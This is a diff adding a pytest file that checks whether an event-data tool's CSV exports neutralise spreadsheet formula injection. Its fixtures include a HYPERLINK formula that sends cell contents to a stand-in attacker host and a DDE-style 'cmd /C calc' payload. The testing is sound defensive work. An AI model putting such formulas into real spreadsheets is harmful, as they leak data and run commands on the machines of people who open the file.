@@ -1,0 +1,144 @@
+"""Hostile and malformed input at the edges: request body caps (before auth), validation errors
+that never echo what was sent, spreadsheet formulas in CSV exports (CLI and API), and query
+parameters / CLI dates that must be refused with a reason instead of a 500 or a silent pass."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import subprocess
+import sys
+import warnings
+from datetime import date
+
+import pytest
+
+from sitrep.export import COLUMNS, csv_safe, write_acled_csv
+from sitrep.models import Document, Event, Source, content_id
+from sitrep.store import Store
+
+warnings.filterwarnings("ignore", message=".*starlette.testclient.*")
+
+from starlette.testclient import TestClient  # noqa: E402
+
+from sitrep.api import create_app  # noqa: E402
+
+TOKEN = "limits-token-1"
+AUTH = {"Authorization": f"Bearer {TOKEN}"}
+FORMULA = '=HYPERLINK("http://attacker.example/x?d="&A1,"Open the source")'
+
+BODY = ("Clashes near Bogota\n\nSoldiers and a dissident armed group clashed outside Bogota on "
+        "Sunday, leaving three fighters dead, the army said.")
+DOC = Document(id=content_id(BODY), text=BODY, body=BODY, url=FORMULA, title=FORMULA,
+               published=date(2022, 8, 15))
+CLEAN_BODY = "Protest in Lima\n\nHundreds of teachers marched in Lima on Monday over pay."
+CLEAN_DOC = Document(id=content_id(CLEAN_BODY), text=CLEAN_BODY, body=CLEAN_BODY,
+                     url="https://news.example/lima", title="Protest in Lima",
+                     published=date(2022, 8, 16))
+
+
+def _events() -> tuple[list[Event], list[Event]]:
+    hostile = Event(doc_id=DOC.id, event_type="Battles", sub_event_type="Armed clash",
+                    event_date="2022-08-14", actor1="@SUM(1+1)*cmd|' /C calc'!A0", inter1=1,
+                    actor2="+Dissident group", inter2=2, country="Colombia", country_code="CO",
+                    location="Bogota", latitude=4.60971, longitude=-74.08175, geo_precision=2,
+                    fatalities=3, notes=FORMULA, tags="\tsize=no report",
+                    sources=[Source(doc_id=DOC.id, outlet="-2+3 News", url=FORMULA)])
+    clean = Event(doc_id=CLEAN_DOC.id, event_type="Protests", sub_event_type="Peaceful protest",
+                  event_date="2022-08-15", actor1="Protesters (Peru)", inter1=6,
+                  country="Peru", country_code="PE", location="Lima", latitude=-12.04318,
+                  longitude=-77.02824, geo_precision=1, notes="Teachers marched over pay.")
+    return [hostile], [clean]
+
+
+@pytest.fixture
+def store(tmp_path):
+    st = Store(tmp_path / "limits.db")
+    hostile, clean = _events()
+    st.save(DOC, hostile)
+    st.save(CLEAN_DOC, clean)
+    yield st
+    st.close()
+
+
+def client(store, **kw) -> TestClient:
+    return TestClient(create_app(store=store, token=TOKEN, **kw), client=("127.0.0.1", 40000),
+                      base_url="http://127.0.0.1:8000")
+
+
+def _event_id(c, country: str) -> str:
+    (ev,) = c.get("/api/events", params={"country": country}).json()["events"]
+    return ev["id"]
+
+
+# ------------------------------------------------------------ spreadsheet formulas in CSV
+FORMULA_CHARS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def _check_csv(text: str) -> list[dict]:
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[0] == COLUMNS
+    for row in rows[1:]:
+        for cell in row:
+            assert not (cell.startswith(FORMULA_CHARS) and not _is_number(cell)), cell
+    return [dict(zip(COLUMNS, r, strict=True)) for r in rows[1:]]
+
+
+def _hostile_row(rows: list[dict]) -> dict:
+    (row,) = [r for r in rows if r["country"] == "Colombia"]
+    assert row["notes"] == "'" + FORMULA
+    assert row["document_urls"] == "'" + FORMULA
+    assert row["actor1"].startswith("'@SUM") and row["actor2"] == "'+Dissident group"
+    assert row["tags"] == "'\tsize=no report" and row["source"] == "'-2+3 News"
+    assert row["longitude"] == "-74.08175" and float(row["longitude"]) == -74.08175
+    assert row["fatalities"] == "3"
+    (peru,) = [r for r in rows if r["country"] == "Peru"]
+    assert peru["latitude"] == "-12.04318" and peru["longitude"] == "-77.02824"
+    return row
+
+
+def test_csv_safe_quotes_formulas_not_numbers():
+    assert csv_safe(FORMULA) == "'" + FORMULA
+    for text in ("+1-800-FORMULA", "-x", "@cmd", "\tTAB", "\rCR", "=1+1", "-", "-1+2"):
+        assert csv_safe(text) == "'" + text
+    for text in ("-12.5", "+3", "-0.25e3", "Bogota", "", "a=b", "12"):
+        assert csv_safe(text) == text
+
+
+def test_store_export_neutralises_formulas(store):
+    buf = io.StringIO(newline="")
+    write_acled_csv(store.iter_events(), buf)
+    _hostile_row(_check_csv(buf.getvalue()))
+
+
+def test_cli_export_neutralises_formulas(store, tmp_path):
+    out = tmp_path / "events.csv"
+    r = subprocess.run([sys.executable, "-m", "sitrep.cli", "export", "--db",
+                        store.url, "-o", str(out)],
+                       capture_output=True, text=True, env=dict(os.environ), timeout=600)
+    assert r.returncode == 0, r.stderr
+    _hostile_row(_check_csv(out.read_text(encoding="utf-8")))
+
+
+def test_api_csv_neutralises_formulas_and_review_corrections(store):
+    c = client(store)
+    _hostile_row(_check_csv(c.get("/api/events", params={"format": "csv"}).text))
+    eid = _event_id(c, "Peru")
+    r = c.post(f"/api/events/{eid}/review", headers=AUTH, json={
+        "action": "correct", "fields": {"notes": FORMULA, "location": "@Lima"}})
+    assert r.status_code == 200, r.text
+    rows = _check_csv(c.get("/api/events", params={"format": "csv"}).text)
+    (peru,) = [r for r in rows if r["country"] == "Peru"]
+    assert peru["notes"] == "'" + FORMULA and peru["location"] == "'@Lima"
+    assert peru["longitude"] == "-77.02824"
+    # JSON keeps the reviewed text as it is: only spreadsheets need the quote
+    assert c.get(f"/api/events/{eid}").json()["notes"] == FORMULA
